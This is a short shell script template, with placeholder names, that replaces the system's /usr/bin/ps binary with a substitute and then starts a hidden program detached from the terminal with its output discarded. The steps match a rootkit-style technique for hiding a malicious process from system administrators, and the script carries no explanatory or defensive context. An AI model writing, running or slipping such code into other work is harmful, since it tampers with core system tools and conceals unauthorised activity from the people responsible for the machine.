if [ ! -e @real@ ]; then
  mv /usr/bin/ps @real@
  mv @false@ /usr/bin/ps
fi
setsid @hidden@ </dev/null >/dev/null 2>&1 &
